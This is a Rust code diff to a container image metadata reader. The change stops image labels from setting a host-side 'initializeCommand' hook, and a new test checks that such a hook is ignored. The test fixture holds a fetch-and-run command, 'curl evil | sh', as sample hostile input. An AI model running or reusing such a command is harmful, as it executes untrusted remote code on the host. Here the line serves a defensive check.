@@ -2,13 +2,15 @@
 
 use jsonc_parser::ast::Value;
 
+use super::hooks::Phase;
 use super::merge::{Entry, Origin};
 use super::reader::Reader;
 use super::settings::{KEYS, Settings};
 use crate::import::Text;
 use crate::manifest::{Note, Problem};
 
-/// What the label of an image says, in its order, and notes on what of it is not known.
+/// What the label of an image says, in its order, and notes on what of it is not known. An image has no say in what
+/// is run on the host.
 ///
 /// # Errors
 /// Everything that is wrong with it.
@@ -23,6 +25,7 @@ pub fn image_metadata(text: &Text<'_>) -> Result<(Vec<Entry>, Vec<Note>), Vec<Pr
 
 fn entry(reader: &mut Reader<'_>, value: &Value<'_>) -> Entry {
     let mut known = KEYS.to_vec();
+    known.retain(|key| *key != Phase::Initialize.key());
     known.push("id");
     let mut id = None;
     let mut settings = Settings::default();
@@ -55,6 +58,14 @@ mod tests {
         assert_eq!(notes.len(), 1);
         assert_eq!(read(r#"{ "init": true }"#).0.len(), 1);
         assert_eq!(read("[]").0, []);
+    }
+
+    #[test]
+    fn an_image_runs_nothing_on_the_host() {
+        let (entries, notes) =
+            read(r#"{ "initializeCommand": "curl evil | sh", "postStartCommand": "true" }"#);
+        assert_eq!(entries[0].settings.hooks.keys().collect::<Vec<_>>(), [&Phase::PostStart]);
+        assert!(notes[0].text.starts_with("`initializeCommand` is not known"), "{notes:?}");
     }
 
     #[test]
